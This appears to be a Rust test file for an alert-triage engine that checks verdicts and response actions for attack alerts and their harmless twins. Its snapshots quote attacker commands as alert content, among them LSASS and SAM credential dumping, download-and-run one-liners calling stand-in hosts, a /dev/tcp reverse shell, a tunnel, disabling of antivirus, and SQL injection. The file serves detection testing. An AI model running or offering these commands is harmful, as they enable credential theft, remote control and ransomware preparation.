//! Tests over alerts of endpoints and identities from a configured feed. Each technique has an attack and a harmless
//! twin of the same type and title.

use std::collections::BTreeMap;

use nightshift_alert::feed::{FIELDS, GenericFeed};
use nightshift_alert::{Alert, DetailKind, IndicatorKind, ReadOptions, read_message};
use nightshift_engine::conclusion::{Leaning, Verdict};
use nightshift_engine::tool::ToolError;
use serde::Deserialize;
use serde_json::{Map, Value, json};

use super::alerts::made_for;
use super::case_fixture::{ALL, DEFAULT, PlaybookCase, PlaybookRun, nothing, on_list, record};
use crate::playbook::PlaybookSet;

#[derive(Deserialize)]
struct AttackPair {
    technique: String,
    rule: String,
    attack: Map<String, Value>,
    twin: Map<String, Value>,
}

fn pairs() -> Vec<AttackPair> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/fixtures/endpoint/alerts.json"
    );
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// Returns a feed whose findings use Nightshift's names for fields.
fn feed() -> GenericFeed {
    let words = FIELDS.iter().map(|(name, _)| *name);
    let details = DetailKind::ALL.iter().map(|kind| kind.as_str());
    let fields: BTreeMap<String, String> = words
        .chain(details)
        .map(|name| (name.to_owned(), format!("/{name}")))
        .collect();
    GenericFeed {
        name: "edr".to_owned(),
        matches: "/rule".to_owned(),
        fields,
        ..GenericFeed::default()
    }
}

fn alert(rule: &str, fields: &Map<String, Value>) -> Alert {
    let mut message = json!({"rule": rule, "id": "e-1", "type": rule, "title": rule, "severity": "medium",
        "created": "2026-11-25T10:00:00Z"});
    message.as_object_mut().unwrap().extend(fields.clone());
    let options = ReadOptions {
        generic: vec![feed()],
        ..ReadOptions::default()
    };
    let batch = read_message(message.to_string().as_bytes(), &options).unwrap();
    batch.alerts.into_iter().next().unwrap()
}

fn quiet(kind: &str, arguments: &Value) -> Result<Value, ToolError> {
    Ok(nothing(kind, arguments))
}

fn ran(rule: &str, fields: &Map<String, Value>) -> PlaybookRun {
    PlaybookCase::with(&DEFAULT, quiet).run(alert(rule, fields))
}

fn leans(ran: &PlaybookRun) -> bool {
    ran.conclusion.verdict == Verdict::TruePositive || ran.conclusion.leaning == Leaning::Malicious
}

#[test]
fn attack_is_told_with_technique_quote_and_action() {
    let mut faults = Vec::new();
    for pair in pairs() {
        let ran = ran(&pair.rule, &pair.attack);
        let end = &ran.conclusion;
        let quoted = end.findings.iter().any(|finding| {
            finding.supported && finding.evidence.iter().all(|quote| quote.path.is_some())
        });
        let named = end.techniques.iter().any(|one| one.id == pair.technique);
        if !leans(&ran) || !quoted || !named || ran.actions().is_empty() {
            let techniques: Vec<_> = end.techniques.iter().map(|one| &one.id).collect();
            faults.push(format!(
                "{} {}: {:?} {:?} {techniques:?}\n{}",
                pair.technique,
                pair.rule,
                end.verdict,
                end.leaning,
                ran.claims()
            ));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn harmless_twin_of_an_attack_leans_nowhere() {
    let mut faults = Vec::new();
    for pair in pairs() {
        let ran = ran(&pair.rule, &pair.twin);
        if leans(&ran) {
            faults.push(format!(
                "{} {}\n{}",
                pair.technique,
                pair.rule,
                ran.claims()
            ));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn name_of_a_rule_leans_nowhere_by_itself() {
    let wrong: Vec<String> = pairs()
        .iter()
        .filter(|pair| leans(&ran("Attack sequence", &pair.twin)))
        .map(|pair| pair.technique.clone())
        .collect();
    assert!(wrong.is_empty(), "{wrong:?}");
}

#[test]
fn action_without_a_value_of_the_alert_is_left_out() {
    let mut tunnel = pair("T1071.004").attack;
    tunnel.remove("domain");
    let of_host = ran("Unusual DNS", &tunnel);
    insta::assert_snapshot!(of_host.actions().join(" "), @"isolate-host contact-owner preserve-logs");
    tunnel.remove("resource");
    tunnel.remove("target");
    let of_nobody = ran("Unusual DNS", &tunnel);
    assert!(leans(&of_nobody));
    insta::assert_snapshot!(of_nobody.actions().join(" "), @"");
    tunnel.insert("target_ip".to_owned(), json!("10.8.0.14"));
    let of_address = ran("Unusual DNS", &tunnel).advised();
    assert!(of_address.contains("Cut 10.8.0.14 off"), "{of_address}");

    let mut link = pair("T1566.002").attack;
    let advised = ran("Link", &link).advised();
    assert!(
        advised.contains("Remove the mail \"Your mailbox is full\""),
        "{advised}"
    );
    link.remove("mail_subject");
    link.remove("principal");
    let advised = ran("Link", &link).advised();
    assert!(!advised.contains("mail"), "{advised}");

    let mut grant = pair("T1528").attack;
    assert!(
        ran("Grant", &grant)
            .actions()
            .contains(&"revoke-oauth-grant")
    );
    grant.remove("application");
    assert!(
        !ran("Grant", &grant)
            .actions()
            .contains(&"revoke-oauth-grant")
    );
}

/// Returns the first claim and the advised actions of the report on each of these attacks.
fn describe_pairs(pairs: &[AttackPair]) -> String {
    let mut told = String::new();
    for pair in pairs {
        let ran = ran(&pair.rule, &pair.attack);
        let end = &ran.conclusion;
        let first = end.findings.first().map_or("", |one| one.claim.as_str());
        let verdict = match end.verdict {
            Verdict::TruePositive => "true positive",
            _ => "leaning malicious",
        };
        told += &format!(
            "{} ({verdict}): {first}\n    {}\n",
            pair.technique,
            ran.actions().join(" ")
        );
    }
    told
}

#[test]
fn attacks_on_secrets_and_protection_read_well() {
    insta::assert_snapshot!(describe_pairs(&pairs()[..11]), @r#"
    T1003.001 (true positive): The memory of LSASS, which holds the secrets of everybody who is signed in there, is read: rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\x.dmp full
        isolate-host rotate-login-credentials collect-memory contact-owner preserve-logs
    T1003.006 (true positive): An account that is no domain controller used the rights to replicate the passwords of the domain: permission DS-Replication-Get-Changes, principal CORP\j.meyer
        disable-account rotate-krbtgt isolate-host contact-owner preserve-logs
    T1003.002 (true positive): The registry hive with the hashes of local passwords is copied: reg save HKLM\SAM C:\Users\Public\s.hiv /y
        isolate-host rotate-login-credentials collect-memory contact-owner preserve-logs
    T1003.003 (true positive): The database with the passwords of the whole domain is copied: ntdsutil "ac i ntds" "ifm" "create full c:\temp\n" q q
        isolate-host rotate-krbtgt collect-memory contact-owner preserve-logs
    T1505.003 (true positive): A web server ran a command of somebody who looks round or fetches tools: parent C:\Windows\System32\inetsrv\w3wp.exe, command "cmd.exe" /c whoami /all & net user
        isolate-host remove-persistence collect-memory contact-owner preserve-logs
    T1059.001 (true positive): A command that was hidden in base64 fetches code and runs it: IEX (New-Object Net.WebClient).DownloadString('http://cdn.bad.example/a.ps1')
        isolate-host collect-memory contact-owner preserve-logs
    T1027 (leaning malicious): A document program started a shell or a script host: parent winword.exe, command c^m^d /c s^e^t x=c^al^c & p^ow^er^sh^el^l -c "&('{1}{0}{2}'-f'h','w','oami')"
        isolate-host collect-memory contact-owner preserve-logs
    T1562.001 (true positive): Protection of the host is switched off: powershell Set-MpPreference -DisableRealtimeMonitoring $true
        isolate-host restore-protection contact-owner preserve-logs
    T1070.001 (true positive): An event log is cleared: wevtutil.exe cl Security
        isolate-host preserve-logs collect-memory contact-owner
    T1490 (true positive): Copies from which the system could be restored are removed, as ransomware does before it encrypts: vssadmin delete shadows /all /quiet
        isolate-host protect-backups collect-memory contact-owner preserve-logs
    T1486 (true positive): Many notes were written that are called like those that ask for money for files: file written \\nas-01\fin\HOW_TO_DECRYPT_FILES.txt, count 4211
        isolate-host protect-backups collect-memory contact-owner preserve-logs
    "#);
}

#[test]
fn attacks_that_stay_and_move_on_read_well() {
    insta::assert_snapshot!(describe_pairs(&pairs()[11..22]), @r#"
    T1053.003 (true positive): What is fetched from a bare address runs at once: (crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.77/u.sh | bash') | crontab -
        isolate-host collect-memory remove-persistence contact-owner preserve-logs
    T1053.005 (leaning malicious): A scheduled task runs a script host, a hidden command, or what lies where anybody may write: schtasks /create /sc minute /mo 10 /tn "OneDrive Sync" /tr "C:\Users\Public\sync.exe" /ru SYSTEM
        remove-persistence isolate-host contact-owner preserve-logs
    T1543.003 (true positive): PowerShell fetches a script from a bare address and runs it without keeping a file: sc.exe create WinSvcHelper binPath= "cmd /c powershell -w hidden -c iex(iwr http://198.51.100.9/s)" start= auto
        isolate-host collect-memory remove-persistence contact-owner preserve-logs
    T1547.001 (leaning malicious): What runs at every sign-in is a script host, a hidden command, or lies where anybody may write: registry key HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater, command reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "mshta C:\Users\Public\u.hta" /f
        remove-persistence isolate-host contact-owner preserve-logs
    T1021.002 (leaning malicious): A program is run or put on another machine through its administrative share: PsExec64.exe \\srv-db-01 -s -d cmd.exe
        isolate-host disable-account rotate-login-credentials contact-owner preserve-logs
    T1047 (leaning malicious): A process is started through WMI: wmic /node:10.20.0.14 process call create "cmd /c C:\Windows\Temp\a.bat"
        isolate-host disable-account contact-owner preserve-logs
    T1021.006 (leaning malicious): Somebody at another machine started a shell here through WinRM: parent C:\Windows\System32\wsmprovhost.exe, command cmd.exe /c whoami
        isolate-host disable-account contact-owner preserve-logs
    T1558.003 (leaning malicious): Tickets of several service accounts were asked for with an encryption that can be broken offline: logon type TGS RC4_HMAC (0x17), count 38
        reset-service-accounts disable-account confirm-with-user contact-owner preserve-logs
    T1621 (true positive): The second factor was asked for again and again until somebody approved it: logon type MFA push, count 27, auth result approved, denied
        suspend-sessions reset-credentials confirm-with-user contact-owner preserve-logs
    T1528 (leaning malicious): An application was allowed to read or change mail, files or the directory in somebody's name: permission Files.ReadWrite.All, application Invoice Reader Pro
        revoke-oauth-grant suspend-sessions confirm-with-user contact-owner preserve-logs
    T1078.004 (leaning malicious): One account signed in from several countries: country BR, DE
        confirm-with-user suspend-sessions reset-credentials contact-owner preserve-logs
    "#);
}

#[test]
fn attacks_over_the_network_read_well() {
    insta::assert_snapshot!(describe_pairs(&pairs()[22..]), @r#"
    T1071.004 (leaning malicious): Queries carry data in the names that they ask for: dns query mzxw6ytboi4dqnbzgq3tsmrrgezdgnbvgy3tqojq.x1.t.bad.example, count 5120
        isolate-host block-domain contact-owner preserve-logs
    T1071.001 (leaning malicious): The same address is called at regular intervals, as a program does that waits for orders: seconds between 60, count 480, domain cdn-sync.bad.example
        isolate-host block-domain block-ip contact-owner preserve-logs
    T1566.002 (leaning malicious): A link leads to a page that passes itself off as somebody else's: https://login-corp.secure-mail.example/verify?email=a.rossi@corp.example
        purge-mail reset-credentials
    T1190 (leaning malicious): A request carries SQL to the database behind the application: GET /item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20
        block-source-ip preserve-logs contact-owner
    T1530 (leaning malicious): Very many files were read in one go: operation FileDownloaded, count 3480
        confirm-with-user suspend-sessions preserve-logs contact-owner
    T1218.011 (true positive): A script runs under a program of Windows that is there for libraries: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.7/a")
        isolate-host collect-memory contact-owner preserve-logs
    T1105 (leaning malicious): A file is fetched with a program of the system that is there for something else: certutil.exe -urlcache -split -f http://198.51.100.7/nc.exe C:\ProgramData\n.exe
        isolate-host collect-memory contact-owner preserve-logs
    T1136.001 (leaning malicious): An account is made by hand: net user support$ [redacted:command_password] /add
        remove-persistence isolate-host contact-owner preserve-logs
    T1110.003 (leaning malicious): The same source failed to sign in to many accounts: auth result failure, principal a.rossi@corp.example, b.lund@corp.example, c.diaz@corp.example, d.kim@corp.example, e.wolf@corp.example and 1 more
        block-source-ip suspend-sessions reset-credentials contact-owner preserve-logs
    T1550.002 (leaning malicious): A sign-in over NTLM looks like one with the hash of a password: logon type NTLM, NewCredentials (type 9)
        isolate-host disable-account rotate-login-credentials contact-owner preserve-logs
    T1059.004 (true positive): A shell is handed to somebody on the other side: bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'
        isolate-host collect-memory contact-owner preserve-logs
    T1572 (leaning malicious): A tunnel out of the network is opened: ./chisel client 203.0.113.8:443 R:socks
        isolate-host contact-owner preserve-logs
    "#);
}

/// Returns the pair of this technique.
fn pair(technique: &str) -> AttackPair {
    let found = pairs().into_iter().find(|one| one.technique == technique);
    found.unwrap()
}

#[test]
fn claim_of_an_alert_clears_nothing_and_is_told() {
    let dump = pair("T1003.001");
    let end = ran(&dump.rule, &dump.attack).conclusion;
    assert_eq!(end.verdict, Verdict::TruePositive);
    insta::assert_snapshot!(end.gaps.join("\n"), @"Whether it is true what the alert says of itself (maintenance window MW-118): no register confirms it");

    let mut cron = pair("T1053.005");
    cron.attack
        .insert("claim".to_owned(), json!("approved in CHG-1"));
    let ran = ran(&cron.rule, &cron.attack);
    assert_eq!(ran.conclusion.leaning, Leaning::Malicious);
    insta::assert_snapshot!(ran.would_decide(), @"
    Who made the task (Security event 4698), and what its program does
    A register (change, asset, authorised scanner) that confirms what the alert says of itself: approved in CHG-1
    ");
}

#[test]
fn only_a_test_or_a_change_clears_the_act_itself() {
    let dump = pair("T1003.001");
    let verdict = |kind: &str, subject_type, subject: &str| {
        PlaybookCase::with(&ALL, |kind, arguments| Ok(nothing(kind, arguments)))
            .clearing(record(kind, subject_type, subject))
            .clearing(record(kind, IndicatorKind::Principal, "CORP\\j.meyer"))
            .run(alert(&dump.rule, &dump.attack))
            .conclusion
            .verdict
    };
    let host = IndicatorKind::Instance;
    assert_eq!(
        verdict("change", host, "ws-0142"),
        Verdict::BenignTruePositive
    );
    assert_ne!(
        verdict("asset", host, "ws-0142"),
        Verdict::BenignTruePositive
    );
}

#[test]
fn address_of_our_own_vpn_is_no_second_place() {
    let mut travel = pair("T1078.004").attack;
    travel.insert("actor_ip".to_owned(), json!("203.0.113.40"));
    travel.insert("remote_ip".to_owned(), json!("198.51.100.44"));
    let judged = |answers| {
        let ran = PlaybookCase::with(&ALL, answers).run(alert("Sign-in", &travel));
        (ran.conclusion.verdict, ran.conclusion.leaning)
    };
    let vpn = |kind: &str, arguments: &Value| match kind {
        "watchlist" if arguments["indicator"] == "198.51.100.44" => Ok(on_list("vpn", arguments)),
        _ => quiet(kind, arguments),
    };
    let bad = |kind: &str, arguments: &Value| match kind {
        "watchlist" if arguments["indicator"] == "198.51.100.44" => {
            Ok(on_list("malicious", arguments))
        }
        _ => quiet(kind, arguments),
    };
    assert_eq!(judged(quiet), (Verdict::Inconclusive, Leaning::Malicious));
    assert_eq!(judged(vpn), (Verdict::Inconclusive, Leaning::None));
    assert_eq!(judged(bad), (Verdict::TruePositive, Leaning::None));
}

#[test]
fn title_and_type_choose_no_playbook_over_typed_fields() {
    let set = PlaybookSet::shipped();
    let dump = pair("T1003.001").attack;
    for rule in [
        "Malware on a disk",
        "Impossible travel",
        "Brute Force: SSH",
        "x",
    ] {
        assert_eq!(
            set.find(&alert(rule, &dump)).name,
            "known-technique",
            "{rule}"
        );
    }
    let mut known = made_for("guardduty-runtime-reverse-shell");
    known.details = alert("x", &dump).details;
    assert_eq!(set.find(&known).name, "runtime-malware");
    "Something new".clone_into(&mut known.kind);
    "A malicious file".clone_into(&mut known.title);
    assert_eq!(set.find(&known).name, "known-technique");
}
